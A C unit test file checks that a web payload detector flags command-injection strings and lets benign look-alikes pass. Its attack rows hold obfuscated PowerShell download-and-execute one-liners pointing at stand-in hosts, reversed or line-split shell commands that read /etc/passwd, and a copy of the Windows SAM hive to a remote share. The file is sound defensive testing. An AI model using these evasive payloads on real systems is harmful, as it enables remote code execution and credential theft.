/* test_payload_rtc6.c - issue 20, helper c (session 28): command
 * injection rows of the review's open findings (rev6 E4, E5, E6) and of
 * a fresh table's misses, one test per construct. Every value is judged
 * as a query parameter value and as a form body (payload_rt_table.h): an
 * attack must draw its own kind in both, a benign value nothing in
 * either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* a code call with blanks inside its parentheses or its list, a program
 * named by its path, a probe in capitals for cmd.exe (rev6 E4); an
 * interpreter given a script is a developer's (rev6 F5) */
static void test_cmdi_code_call_blanks(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"os.system ( 'id')", C},
		{"os.system (\t\"whoami\")", C},
		{"subprocess.run (['/usr/bin/id'])", C},
		{"subprocess.run ([ \"/bin/sh\", \"-c\", \"id\"])", C},
		{"os.system ('WHOAMI')", C},
		{"';os.system ( 'uname -a')#", C},
		{"exec ('python manage.py migrate')", N},
		{"exec ( 'python3 manage.py runserver 0.0.0.0:8000')", N},
		{"subprocess.run ([\"/usr/bin/python3\", \"script.py\"])", N},
		{"os.system ( 'clear')", N},
	};
	rt_run("cmdi-code-call-blanks", t, sizeof(t) / sizeof(t[0]));
}

/* PowerShell runs what it fetched: a tab after the web cmdlet's alias,
 * and Invoke-Expression reached by the call operators & and . on a
 * computed name (rev6 E5): &(gcm i*x), & ('ie'+'x'), &$x */
static void test_cmdi_ps_call_operator(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"IEX(iwr\thttp://evil/x)", C},
		{"iex (irm\t10.0.0.5/x)", C},
		{"&(gcm i*x)(New-Object Net.WebClient).DownloadString('http://evil/x')", C},
		{".(gcm *ke-e*)(iwr http://10.0.0.5/y)", C},
		{"&(Get-Command I*e-Ex*) ((New-Object Net.WebClient).DownloadString('http://10.0.0.5/y'))", C},
		{"& ('ie'+'x') (irm http://10.0.0.5/y)", C},
		{"$v='ie'+'x';&$v(irm http://10.0.0.5/y)", C},
		{"Tom & (Jerry) (iwr is a PowerShell alias)", N},
		{"& (Get-Process) | Select-Object Name", N},
		{"R&D (irm team)", N},
	};
	rt_run("cmdi-ps-call-operator", t, sizeof(t) / sizeof(t[0]));
}

/* a command word built in backticks, echo|rev or printf escapes: it
 * runs where the backticks stand (rev6 E6) */
static void test_cmdi_built_backtick(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"`echo imaohw|rev`", C},
		{";`echo imaohw|rev`", C},
		{"127.0.0.1`echo imaohw|rev`", C},
		{"`printf '\\167\\150\\157\\141\\155\\151'`", C},
		{"127.0.0.1|`echo tac|rev` /etc/passwd", C},
		{"||`echo emanu|rev` -a", C},
		{"run `echo hello|rev` to print olleh", N},
		{"try `printf \"\\x41\"` in bash", N},
	};
	rt_run("cmdi-built-backtick", t, sizeof(t) / sizeof(t[0]));
}

/* backslash-newline inside a word: the shell joins the lines */
static void test_cmdi_line_continuation(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"42\nw\\\nhoami", C},
		{"127.0.0.1`w\\\nhoami`", C},
		{"x||c\\\nat /etc/passwd", C},
		{"report.pdf'|u\\\nname -a", C},
		{"127.0.0.1$(i\\\nd)", C},
		{"line one \\\nline two", N},
		{"C:\\temp\\\nnext", N},
	};
	rt_run("cmdi-line-continuation", t, sizeof(t) / sizeof(t[0]));
}

/* PowerShell cmdlets by the approved verbs probes use (Test-, Resolve-),
 * and .NET's process start called from PowerShell */
static void test_cmdi_ps_cmdlets(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"; Test-Connection -Count 5 127.0.0.1", C},
		{"; [System.Diagnostics.Process]::Start('calc')", C},
		{"[Diagnostics.Process]::Start(\"cmd.exe\", \"/c whoami\")", C},
		{"Test-Driven Development (TDD) by example", N},
		{"System.Diagnostics.Process is the class; see its Start method", N},
	};
	rt_run("cmdi-ps-cmdlets", t, sizeof(t) / sizeof(t[0]));
}

/* a variable assigned far before its use (q's review of the 512-byte
 * look-back): the value's assignments are read once, so padding between
 * "X=id;" and ";$X" hides nothing; nor do decoy assignments first */
static void test_cmdi_var_far(void **st)
{
	(void)st;
	static char v[4][2048];
	size_t w;

	w = (size_t)snprintf(v[0], sizeof(v[0]), "X=id;");
	for (int i = 0; i < 120; i++)
		w += (size_t)snprintf(v[0] + w, sizeof(v[0]) - w, "true;");
	snprintf(v[0] + w, sizeof(v[0]) - w, ";$X");
	w = (size_t)snprintf(v[1], sizeof(v[1]), "a=who;");
	for (int i = 0; i < 120; i++)
		w += (size_t)snprintf(v[1] + w, sizeof(v[1]) - w, ":;");
	w += (size_t)snprintf(v[1] + w, sizeof(v[1]) - w, "b=ami;");
	for (int i = 0; i < 120; i++)
		w += (size_t)snprintf(v[1] + w, sizeof(v[1]) - w, ":;");
	snprintf(v[1] + w, sizeof(v[1]) - w, "$a$b");
	w = 0;
	for (int i = 0; i < 40; i++)
		w += (size_t)snprintf(v[2] + w, sizeof(v[2]) - w, "v%d=1;", i);
	w += (size_t)snprintf(v[2] + w, sizeof(v[2]) - w, "X=id;");
	for (int i = 0; i < 120; i++)
		w += (size_t)snprintf(v[2] + w, sizeof(v[2]) - w, "true;");
	snprintf(v[2] + w, sizeof(v[2]) - w, ";$X");
	/* the use before the assignment runs nothing */
	w = (size_t)snprintf(v[3], sizeof(v[3]), "x;$X;");
	for (int i = 0; i < 120; i++)
		w += (size_t)snprintf(v[3] + w, sizeof(v[3]) - w, "true;");
	snprintf(v[3] + w, sizeof(v[3]) - w, "X=id");
	const struct rtcase t[] = {
		{v[0], C},
		{v[1], C},
		{v[2], C},
		{v[3], N},
	};
	rt_run("cmdi-var-far", t, sizeof(t) / sizeof(t[0]));
}

/* rev7's review of the merge: an interpreter given a file is exempt only
 * for a project's script (L1); .NET's process start opening a web page
 * or named in prose is told, not killed (F1), and its member reached by
 * Invoke, a backtick or quotes is the same call (E6); a PowerShell
 * pipeline of ordinary cmdlets (F9); echo|rev with the reverser quoted
 * (E7), two backslash-newlines (E7b), a quoted command or curl.exe after
 * PowerShell's call operator (E6b). Attacks at 60 or more as cmdi in
 * both places, benign values below 60 of any kind. */
static void test_cmdi_rev7(void **st)
{
	(void)st;
	static const struct {
		const char *in;
		int attack;
	} t[] = {
		{"system ('bash /tmp/x')", 1},
		{"exec ('python3 uploads/avatar.jpg')", 1},
		{"exec ('bash -i')", 1},
		{"shell_exec ('bash /tmp/x')", 1},
		{"passthru ('bash /tmp/x')", 1},
		{"popen ('sh /dev/shm/x')", 1},
		{"exec ('bash x.sh')", 1},
		{"exec ('python /tmp/x.py')", 1},
		{"exec ('python3 uploads/shell.py')", 1},
		{"exec ('python -i manage.py')", 1},
		{"exec ('perl ../../x.pl')", 1},
		{"exec ('php images/avatar.png')", 1},
		{"exec ('python manage.py migrate')", 0},
		{"exec ('python3 -u scripts/build.py --all')", 0},
		{"system ('perl tools/report.pl')", 0},
		{"exec ('php artisan migrate')", 0},
		{"[Diagnostics.Process]::Start('cmd.exe','/c whoami')", 1},
		{"[Diagnostics.Process]::Start('calc')", 1},
		{"[Diagnostics.Process]::Start.Invoke('calc')", 1},
		{"[Diagnostics.Process]::St`art('calc')", 1},
		{"[Diagnostics.Process]::'Start'('calc')", 1},
		{"[Diagnostics.Process]::\"Start\"('calc')", 1},
		{"[System.Diagnostics.Process]::Start(\"https://learn.microsoft.com\")", 0},
		{"Use [System.Diagnostics.Process]::Start() to launch notepad", 0},
		{"Get-ChildItem | Copy-Item -Destination D:\\x", 0},
		{"; Copy-Item C:\\Windows\\System32\\config\\SAM \\\\10.0.0.5\\s", 1},
		{"`echo di|'rev'`", 1},
		{"`echo di|\"rev\"`", 1},
		{"`echo di|r\\ev`", 1},
		{"run `echo hello|'rev'` to print olleh", 0},
		{";wh\\\n\\\noami", 1},
		{"line one \\\n\\\nline two", 0},
		{"&'iex' (iwr http://x/a)", 1},
		{"&\"iex\" (iwr http://x/a)", 1},
		{"&(gcm ('i*x')) (iwr http://x/a)", 1},
		{"&(gcm i*x) (curl.exe -s http://x/a)", 1},
		{"Tom & 'Jerry' (iwr is an alias)", 0},
	};
	int bad = 0;

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		for (int ctx = 0; ctx < 2; ctx++) {
			int sc = rt_best(t[i].in, ctx, t[i].attack ? PAYLOAD_CMDI : PAYLOAD__COUNT);
			if (t[i].attack ? sc < 60 : sc >= 60) {
				bad++;
				fprintf(stderr, "  FAIL cmdi-rev7 %s (%s): [%s] %d\n",
					t[i].attack ? "attack missed" : "benign killed", ctx ? "form" : "value", t[i].in,
					sc);
			}
		}
	assert_int_equal(bad, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmdi_code_call_blanks),
		cmocka_unit_test(test_cmdi_ps_call_operator),
		cmocka_unit_test(test_cmdi_built_backtick),
		cmocka_unit_test(test_cmdi_line_continuation),
		cmocka_unit_test(test_cmdi_ps_cmdlets),
		cmocka_unit_test(test_cmdi_var_far),
		cmocka_unit_test(test_cmdi_rev7),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
